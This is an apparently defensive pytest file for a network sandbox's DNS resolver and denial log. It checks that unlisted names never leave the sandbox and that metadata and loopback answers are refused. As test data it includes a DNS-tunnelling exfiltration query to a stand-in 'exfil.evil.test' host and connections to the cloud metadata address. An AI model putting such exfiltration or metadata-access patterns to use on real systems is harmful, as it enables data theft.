"""The built-in resolver and the denial log of mini-tapbox (issue 7).

A stub DNS server started by each test on 127.0.0.1 records every query it
receives and is passed as --resolver: it serves the start-up resolution of
domain entries and the on-demand answers for *.domain entries, so the tests
can check from the host side which names left the sandbox.  Blocked
destinations are only ever rejected inside the sandbox's network namespace
(nothing leaves the machine); allowed connections go to the test hosts of
tests/integration/testhosts.sh (198.18.0.20 / .21, tcp 9000).
"""
import json
import os
import socket

import pytest

from conftest import sandbox
from stubdns import StubResolver

PY = "/usr/bin/python3"
HERE = os.path.dirname(os.path.abspath(__file__))

# Addresses used only as DNS answers.  Connections to them are rejected by
# the ruleset inside the sandbox (they are not on any allowlist port), so no
# packet to them ever leaves the machine.
DOC4 = "192.0.2.10"
DOC6 = "2001:db8::10"


# --- a recording stub resolver -------------------------------------------------

@pytest.fixture
def stub():
    servers = []

    def make(records):
        s = StubResolver(records)
        servers.append(s)
        return s
    yield make
    for s in servers:
        s.close()


# --- the test hosts of testhosts.sh ---------------------------------------------

# Layout fixed by testhosts.sh: each address runs a banner server on tcp 9000.
TESTHOST_PORT = 9000


def find_testhost(addr):
    """(ADDR, port) of a test host of testhosts.sh (run as root by run.sh
    before the tests), after checking from the host side that it answers.
    Fails loudly when the hosts are not up."""
    try:
        with socket.create_connection((addr, TESTHOST_PORT), timeout=5) as s:
            s.settimeout(5)
            banner = s.recv(100).decode()
    except OSError as e:
        pytest.fail("test host %s:%d unreachable (run tests/integration/testhosts.sh up "
                    "as root): %s" % (addr, TESTHOST_PORT, e))
    # the server is dual-stack: IPv4 peers show as ::ffff:ADDR
    assert banner.startswith("msbx-testhost ") and addr in banner, banner
    return addr, TESTHOST_PORT


# --- helpers -----------------------------------------------------------------

# In-sandbox DNS client: sends one raw query to the built-in resolver and
# prints "rcode ancount" (or "timeout").
RAW_QUERY = r'''
import socket, struct, sys
def q(name, qtype, server="10.0.2.3", raw=None):
    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(3)
    if raw is None:
        raw = struct.pack(">HHHHHH", 0x4d53, 0x0100, 1, 0, 0, 0) + b"".join(
            bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    s.sendto(raw, (server, 53))
    try:
        r = s.recv(4096)
    except socket.timeout:
        return "timeout"
    return "%d %d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
'''


def tapbox(args, cmd, workdir, timeout=60):
    return sandbox(*args, "--", *cmd, tapbox=True, cwd=workdir, timeout=timeout)


def py(code):
    return [PY, "-c", code]


def log_records(path):
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


# --- tests -------------------------------------------------------------------

def test_allowlisted_a_and_aaaa_answered_inside(stub, workdir):
    dns = stub({"good.test": [(1, DOC4, 300), (28, DOC6, 300)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
               py("import socket\n"
                  "for fam in (socket.AF_INET, socket.AF_INET6):\n"
                  "    for ai in socket.getaddrinfo('good.test', 443, fam, socket.SOCK_STREAM):\n"
                  "        print(ai[4][0])\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == [DOC4, DOC6]
    # the answers came from the start-up resolution: only that reached the stub
    assert len(dns.seen("good.test")) <= 4, dns.queries


def test_other_name_nxdomain_and_never_leaves(stub, workdir):
    dns = stub({"good.test": [(1, DOC4, 300)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
               py(RAW_QUERY +
                  "print(q('evil.test', 1))\n"
                  "print(q('c2VjcmV0.exfil.evil.test', 16))\n"
                  "print(q('good.test', 15))\n"           # other type, allowlisted
                  "print(q('good.test', 1))\n"
                  "print(q('evil.test', 28, server='fd00::3'))\n"
                  "import socket\n"
                  "try:\n"
                  "    socket.getaddrinfo('evil.test', 80)\n"
                  "    print('resolved')\n"
                  "except socket.gaierror as e:\n"
                  "    print('gaierror')\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:6] == ["3 0", "3 0", "0 0", "0 1", "3 0", "gaierror"]
    assert dns.seen("evil") == [], dns.queries


def test_malformed_queries_do_not_hurt(stub, workdir):
    dns = stub({"good.test": [(1, DOC4, 300)]})
    loop = "struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([1, 97, 0xc0, 12, 0, 1, 0, 1])"
    two = ("struct.pack('>HHHHHH', 8, 0x100, 2, 0, 0, 0) + (bytes([1, 97, 0, 0, 1, 0, 1]) * 2)")
    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
               py(RAW_QUERY +
                  "print(q(None, 0, raw=%s))\n" % loop +
                  "print(q(None, 0, raw=%s))\n" % two +
                  "print(q(None, 0, raw=b'\\x01'))\n" +             # too short: no answer
                  "print(q(None, 0, raw=bytes(range(256)) * 4))\n" +
                  "print(q('a' * 63 + '.' + 'b' * 63 + '.' + 'c' * 63 + '.' + 'd' * 63, 1))\n" +
                  "print(q('good.test', 1))\n"), workdir)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.split("\n")
    assert lines[0] == "1 0"          # compression loop: FORMERR
    assert lines[1] == "1 0"          # two questions: FORMERR
    assert lines[2] == "timeout"      # shorter than a header: dropped
    assert lines[4] in ("1 0", "3 0")  # oversize name: FORMERR (or NXDOMAIN)
    assert lines[5] == "0 1"          # and the resolver still answers
    assert dns.seen("good.test") and not dns.seen("aaaa")


def test_tcp_to_port_53_refused(stub, workdir):
    dns = stub({"good.test": [(1, DOC4, 300)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
               py("import socket, time\n"
                  "for addr in ('10.0.2.3', 'fd00::3'):\n"
                  "    t = time.monotonic()\n"
                  "    try:\n"
                  "        socket.create_connection((addr, 53), timeout=5)\n"
                  "        print('connected')\n"
                  "    except ConnectionRefusedError:\n"
                  "        print('refused', time.monotonic() - t < 1)\n"
                  "    except OSError as e:\n"
                  "        print('error', e.errno)\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:2] == ["refused True", "refused True"]


def test_log_file_and_verbose_list_each_denial(stub, workdir, tmp_path):
    dns = stub({"good.test": [(1, DOC4, 300)]})
    log = tmp_path / "denials.jsonl"
    r = tapbox(["-v", "--log", str(log), "--resolver", dns.addr, "--allow", "good.test:443"],
               py(RAW_QUERY +
                  "print(q('evil.test', 1))\n"
                  "print(q('other.evil.test', 28))\n"
                  "import socket\n"
                  "for dst in (('good.test', 80), ('192.0.2.99', 8080)):\n"
                  "    try:\n"
                  "        socket.create_connection(dst, timeout=5)\n"
                  "    except ConnectionRefusedError:\n"
                  "        print('refused')\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == ["3", "0", "3", "0", "refused", "refused"]
    recs = log_records(log)
    names = [(x["name"], x["qtype"]) for x in recs if x["event"] == "name"]
    assert names == [("evil.test", "A"), ("other.evil.test", "AAAA")]
    conns = [x for x in recs if x["event"] == "connection"]
    assert {"proto": "tcp", "addr": DOC4, "port": 80, "name": "good.test"}.items() <= \
        conns[0].items()
    assert any(c["addr"] == "192.0.2.99" and c["port"] == 8080 and "name" not in c
               for c in conns), conns
    assert all(x["time"].endswith("Z") for x in recs)
    assert recs[-1]["event"] == "summary"
    assert recs[-1]["names"] == 2 and recs[-1]["connections"] == len(conns)
    # -v: the same denials on stderr, and the summary line at exit
    assert "denied: name evil.test (A)" in r.stderr
    assert "denied: tcp to %s:80 (good.test)" % DOC4 in r.stderr
    assert "denied: tcp to 192.0.2.99:8080" in r.stderr
    assert "mini-tapbox: blocked %d connections, 2 names" % len(conns) in r.stderr


def test_summary_line_without_verbose(stub, workdir):
    dns = stub({"good.test": [(1, DOC4, 300)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
               py(RAW_QUERY + "q('evil.test', 1)\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert "mini-tapbox: blocked 0 connections, 1 name" in r.stderr
    assert "denied:" not in r.stderr     # details only with -v / --log


def test_wildcard_resolved_on_demand_and_connects(stub, workdir):
    host, port = find_testhost("198.18.0.20")
    dns = stub({"a.example.test": [(1, host, 60)],
                "example.test.evil": [(1, host, 60)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
               py("import socket\n"
                  "s = socket.create_connection(('a.example.test', %d), timeout=10)\n"
                  "print('connected')\n"
                  "s.close()\n"
                  "try:\n"
                  "    socket.getaddrinfo('example.test.evil', %d)\n"
                  "    print('resolved')\n"
                  "except socket.gaierror:\n"
                  "    print('nxdomain')\n" % (port, port)), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == ["connected", "nxdomain"]
    assert ("a.example.test", 1) in dns.queries
    assert dns.seen("evil") == [], dns.queries


def test_wildcard_aaaa_resolved_on_demand_and_connects(stub, workdir):
    host, port = find_testhost("fd42:4d53:4258::11")
    dns = stub({"v6.example.test": [(28, host, 60)]})
    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
               py("import socket\n"
                  "ai = socket.getaddrinfo('v6.example.test', %d, socket.AF_INET6,"
                  " socket.SOCK_STREAM)[0]\n"
                  "print(ai[4][0])\n"
                  "s = socket.create_connection(ai[4][:2], timeout=10)\n"
                  "print(s.recv(100).decode().split()[0])\n" % port), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == [host, "msbx-testhost"]
    assert ("v6.example.test", 28) in dns.queries


def test_wildcard_answer_in_refused_range_not_added(stub, workdir, tmp_path):
    dns = stub({"meta.example.test": [(1, "169.254.169.254", 60), (1, DOC4, 60)],
                "lo.example.test": [(1, "127.0.0.1", 60)]})
    log = tmp_path / "log.jsonl"
    r = tapbox(["--log", str(log), "--resolver", dns.addr, "--allow", "*.example.test"],
               py(RAW_QUERY +
                  "import socket\n"
                  "print(sorted(a[4][0] for a in socket.getaddrinfo('meta.example.test', 80,"
                  " socket.AF_INET, socket.SOCK_STREAM)))\n"
                  "print(q('lo.example.test', 1))\n"
                  "try:\n"
                  "    socket.create_connection(('169.254.169.254', 80), timeout=5)\n"
                  "except ConnectionRefusedError:\n"
                  "    print('refused')\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:3] == ["['%s']" % DOC4, "0 0", "refused"]
    refused = {x["addr"] for x in log_records(log) if x["event"] == "answer"}
    assert refused == {"169.254.169.254", "127.0.0.1"}
    assert any(x["event"] == "connection" and x["addr"] == "169.254.169.254"
               for x in log_records(log))


def test_wildcard_address_expires_with_ttl(stub, workdir):
    host, port = find_testhost("198.18.0.21")
    dns = stub({"short.example.test": [(1, host, 1)]})
    # Resolve once, connect at once (allowed), then keep opening new
    # connections until the set entry times out; bounded by a deadline.
    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
               py("import socket, time\n"
                  "addr = socket.getaddrinfo('short.example.test', %d, socket.AF_INET)[0][4][0]\n"
                  "t0 = time.monotonic()\n"
                  "socket.create_connection((addr, %d), timeout=10).close()\n"
                  "print('connected')\n"
                  "while time.monotonic() - t0 < 40:\n"
                  "    try:\n"
                  "        socket.create_connection((addr, %d), timeout=10).close()\n"
                  "    except ConnectionRefusedError:\n"
                  "        print('expired after %%.1f' %% (time.monotonic() - t0))\n"
                  "        break\n"
                  "    time.sleep(0.25)\n"
                  "else:\n"
                  "    print('never expired')\n" % (port, port, port)), workdir, timeout=90)
    assert r.returncode == 0, r.stderr
    out = r.stdout.split("\n")
    assert out[0] == "connected"
    assert out[1].startswith("expired after"), out
    # TTL 1 is raised to the 5 s floor; the kernel's gc may take a little longer
    assert 3.0 <= float(out[1].split()[-1]) <= 30.0, out


def test_connection_outlives_the_ttl_of_its_answer(stub, workdir):
    host, _ = find_testhost("198.18.0.21")
    dns = stub({"long.example.test": [(1, host, 1)]})
    # Open an HTTP connection, then wait (bounded) until new connections are
    # refused — the answer has expired — and only then send the request on
    # the old connection: established flows must keep working.
    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
               py("import socket, time\n"
                  "addr = socket.getaddrinfo('long.example.test', 80, socket.AF_INET)[0][4][0]\n"
                  "old = socket.create_connection((addr, 80), timeout=10)\n"
                  "t0 = time.monotonic()\n"
                  "while time.monotonic() - t0 < 40:\n"
                  "    try:\n"
                  "        socket.create_connection((addr, 80), timeout=10).close()\n"
                  "    except ConnectionRefusedError:\n"
                  "        print('expired')\n"
                  "        break\n"
                  "    time.sleep(0.25)\n"
                  "old.settimeout(10)\n"
                  "old.sendall(b'GET / HTTP/1.0\\r\\nHost: long.example.test\\r\\n\\r\\n')\n"
                  "data = b''\n"
                  "while True:\n"
                  "    chunk = old.recv(4096)\n"
                  "    if not chunk:\n"
                  "        break\n"
                  "    data += chunk\n"
                  "print('reply', b'msbx-testhost' in data)\n"), workdir, timeout=90)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:2] == ["expired", "reply True"], r.stdout


def test_unrestricted_tapbox_relays_queries(stub, workdir):
    dns = stub({"any.test": [(1, DOC4, 60)]})
    r = tapbox(["--resolver", dns.addr],
               py(RAW_QUERY + "print(q('any.test', 1))\nprint(q('nope.test', 16))\n"), workdir)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:2] == ["0 1", "3 0"]
    assert ("any.test", 1) in dns.queries and ("nope.test", 16) in dns.queries
